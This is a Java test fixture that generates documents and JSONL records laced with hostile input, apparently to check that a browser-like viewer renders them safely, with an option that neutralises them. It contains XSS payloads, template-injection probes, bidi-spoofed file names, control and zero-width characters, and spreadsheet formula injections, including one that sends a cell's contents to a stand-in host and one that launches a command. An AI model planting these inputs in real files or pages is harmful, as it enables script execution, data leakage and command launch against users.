package taohua.browser;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;

/**
 * Documents that attack whoever looks at them, or the same with every attack made harmless: a comma
 * stands for each mark and ∞ for each sign of mathematics, such as {@code <}, so that both have the
 * same characters to compare.
 */
record Hostile(boolean harmless) {
  /** Signs that a reading takes account of: ends of sentences, and what figures are made of. */
  private static final String READ = "?!*%.";

  private static final String SCRIPT = "<script>window.__pwned=1</script>";
  private static final String IMAGE = "\"><img src=x onerror=\"window.__pwned=2;alert(1)\">";
  private static final String LINK = "<a href='javascript:window.__pwned=3'>点此</a>";
  private static final String CLOSING =
      "</p></main></script></style></title>--><svg onload=alert(4)>";
  private static final String TEMPLATES = "{{7*7}}${7*7}@if(true)#{7*7}<%=7*7%>{0}{1}{2}";
  private static final String TURNED = "\u202Egpj.exe\u2066向右\u2067向左\u2069\u202D";
  private static final String ZERO_WIDTH = "零\u200B宽\u200C字\u200D符\uFEFF在\u2060此\u00AD处";
  private static final String CONTROLS = "控\u0001制\u0007字\u001B[31m符\u007F与\u0085等\u009B等";
  private static final String PILE =
      "堆叠e\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030A";
  private static final String ASTRAL = "星面😀👩‍👩‍👧𠮷𪚥与🏳️‍🌈";
  private static final String RUN = "=HYPERLINK(\"http://evil.invalid/?\"&A1,\"看\")";

  private static final String COMMON = "渡口的老船工说得明白，水位牌不是写给检查组看的，是写给夜里过河的人看的，字要大、漆要亮、数要真。";

  /** Writes the documents as files and as records into a folder that exists. */
  Path into(Path folder) {
    write(folder.resolve("00-" + tamed("<img src=x onerror=alert(5)>\u202Egpj") + ".txt"), text(0));
    write(folder.resolve("01-" + tamed("\"'&#60;b&#62;${1}{0};--") + ".txt"), text(1));
    // Control characters make a file unreadable, so that its name and the reason are shown instead.
    write(folder.resolve("02-" + tamed(IMAGE.replace("/", "") + TURNED) + ".txt"), CONTROLS);
    write(folder.resolve("records.jsonl"), record(2) + "\n" + record(3) + "\n" + record(4) + "\n");
    return folder;
  }

  private String text(int number) {
    return tamed("在全市堤防工作会议上的讲话" + SCRIPT)
        + "\n（2022年"
        + (number + 1)
        + "月15日）\n临漪市市长 单于归\n\n同志们：\n"
        + body(number);
  }

  private String record(int number) {
    Map<String, String> fields = new TreeMap<>();
    fields.put("id", "1" + number + tamed("-" + IMAGE + TURNED));
    fields.put(
        "title", tamed(List.of(RUN + SCRIPT, IMAGE + TURNED, TEMPLATES + CLOSING).get(number - 2)));
    fields.put(
        "official",
        tamed(List.of("+1+cmd|' /C calc'!A0", "@SUM(1)" + TURNED, IMAGE).get(number - 2)));
    fields.put("role", tamed("市长" + LINK));
    fields.put("place", tamed("-2+3" + TEMPLATES + "市"));
    fields.put("date", "2022-0" + (number + 1) + "-10");
    fields.put("text", body(number));
    try {
      return new ObjectMapper().writeValueAsString(fields);
    } catch (JsonProcessingException e) {
      throw new IllegalStateException(e);
    }
  }

  private String body(int number) {
    String shared =
        COMMON
            + tamed(SCRIPT + "夜里过河" + IMAGE + "的人" + LINK + TEMPLATES)
            + "，第"
            + (3 + number)
            + "遍都要看得清。";
    String all =
        String.join(
            "\n",
            shared,
            "第" + (number + 1) + "段是本篇自己的话，" + tamed(CLOSING + TURNED + ZERO_WIDTH) + "，说的是堤上的事。",
            "巡堤的人带着三样东西，"
                + tamed((number < 2 ? "" : CONTROLS) + PILE + ASTRAL)
                + "，缺一样都不算数，少一次都要补上。",
            tamed(RUN) + "这一格不是公式，" + COMMON.replace("夜里", "雨天"));
    return number == 1 ? all + "\n" + "堤防长话短说不得".repeat(1250) + "。\n" : all + "\n";
  }

  /** The text itself, or what is as long and does nothing. */
  private String tamed(String text) {
    if (!harmless) {
      return text;
    }
    StringBuilder tame = new StringBuilder();
    text.codePoints().map(Hostile::tame).forEach(tame::appendCodePoint);
    return tame.toString();
  }

  private static int tame(int point) {
    return switch (Character.getType(point)) {
      case Character.MATH_SYMBOL -> '∞';
      case Character.CONTROL,
          Character.FORMAT,
          Character.START_PUNCTUATION,
          Character.END_PUNCTUATION,
          Character.DASH_PUNCTUATION,
          Character.CONNECTOR_PUNCTUATION,
          Character.OTHER_PUNCTUATION ->
          READ.indexOf(point) >= 0 ? point : '、';
      default -> point;
    };
  }

  private static void write(Path file, String text) {
    try {
      Files.writeString(file, text);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }
}
